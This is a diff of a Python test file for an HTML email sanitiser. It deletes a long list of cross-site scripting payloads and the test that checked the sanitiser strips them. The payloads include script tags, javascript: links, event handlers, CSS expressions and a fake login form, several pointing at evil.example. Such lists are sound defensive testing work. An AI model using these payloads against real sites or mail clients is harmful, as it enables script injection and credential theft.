@@ -9,102 +9,7 @@ from counterbell.mail.plain import plain_text
 from counterbell.mail.quoted_html import without_quotes
 from counterbell.mail.quotes import new_part
 
-TRICKS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
-    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
-    "<SCRIPT/XSS SRC='https://evil.example/xss.js'></SCRIPT>",
-    "<SCRIPT/SRC='https://evil.example/xss.js'></SCRIPT>",
-    "<SCRIPT SRC=https://evil.example/xss.js?< B >",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<IMG SRC=\"javascript:alert('XSS');\">",
-    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
-    "<IMG SRC=`javascript:alert(1)`>",
-    '<a onmouseover="alert(document.cookie)">x</a>',
-    "<a onmouseover=alert(document.cookie)>x</a>",
-    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
-    '<IMG SRC=# onmouseover="alert(1)">',
-    '<IMG SRC= onmouseover="alert(1)">',
-    '<IMG SRC=/ onerror="alert(1)"></img>',
-    '<img src=x onerror="&#0000106&#0000097&#0000118alert(1)">',
-    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;>",
-    '<a href="jav\tascript:alert(1);">x</a>',
-    '<a href="jav&#x09;ascript:alert(1);">x</a>',
-    '<a href="jav&#x0A;ascript:alert(1);">x</a>',
-    '<a href=" &#14;  javascript:alert(1);">x</a>',
-    '<a href="java\0script:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-    '<a href="//evil.example">x</a>',
-    '<a href="/logout">x</a>',
-    '<a href="cid:x">x</a>',
-    '<IMG DYNSRC="javascript:alert(1)">',
-    '<IMG LOWSRC="javascript:alert(1)">',
-    '<img srcset="https://evil.example/1.png 1x">',
-    "<svg/onload=alert('XSS')>",
-    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
-    "<BODY ONLOAD=alert('XSS')>",
-    '<BGSOUND SRC="javascript:alert(1);">',
-    "<BR SIZE=\"&{alert('XSS')}\">",
-    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
-    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
-    '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>x</br>',
-    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
-    '<DIV STYLE="background-image: url(https://evil.example/1.png)">x</DIV>',
-    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
-    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
-    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
-    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
-    '<IFRAME SRCDOC="<script>alert(1)</script>"></IFRAME>',
-    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
-    '<TABLE BACKGROUND="https://evil.example/1.png"><TD BACKGROUND="javascript:alert(1)">x',
-    "<BASE HREF=\"javascript:alert('XSS');//\">",
-    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
-    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
-    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
-    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
-    "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
-    '<form action="https://evil.example"><input type=password name=p><button>Log in</button></form>',
-    '<video src="https://evil.example/v.mp4" autoplay></video><audio src=x onerror=alert(1)>',
-    "<isindex type=image src=1 onerror=alert(1)>",
-    '<p class="menu" id="logout" name="x">x</p>',
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<textarea><img src=x onerror=alert(1)></textarea>",
-    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
-    '<a href="https://ok.example" ping="https://evil.example" target=_top download>x</a>',
-    "<details open ontoggle=alert(1)>x</details>",
-    "<template><img src=x onerror=alert(1)></template>",
-    "\u00bcscript\u00bealert(1)\u00bc/script\u00be<script\\x20type='text/javascript'>alert(1)</script>",
-]
-
-_TAG = re.compile(r"<(/?)([a-z0-9]+)((?:\s[^<>]*)?)>")
 _ATTRIBUTE = re.compile(r'([a-z-]+)="([^"]*)"')
-HARMLESS = {"href", "rel", "target", "src", "alt", "align", "open", "dir", "start"}
-
-
-@pytest.mark.parametrize("trick", TRICKS)
-def test_nothing_active_is_left(trick: str) -> None:
-    html = clean(f"<p>before</p>{trick}").html
-    for _closing, tag, inside in _TAG.findall(html):
-        assert tag not in {
-            "script",
-            "style",
-            "iframe",
-            "svg",
-            "form",
-            "input",
-            "meta",
-            "base",
-            "link",
-            "object",
-            "embed",
-        }
-        for name, value in _ATTRIBUTE.findall(inside):
-            assert name in HARMLESS
-            assert name not in ("href", "src") or value.startswith(("https://ok.example",))
-    assert "<p>before</p>" in html
 
 
 def test_a_link_opens_elsewhere_and_tells_nobody() -> None:
@@ -122,7 +27,7 @@ def test_remote_pictures_wait_until_somebody_asks() -> None:
     assert "x.example" not in clean(html).html
     assert "A lamp" in clean(html).html
     shown = clean(html, remote_pictures=True)
-    assert shown.html.count("x.example") == 2
+    assert re.findall('src="([^"]*)"', shown.html) == ["https://x.example/1.gif", "https://x.example/2.gif"]
     assert shown.blocked_pictures == 0
 
 
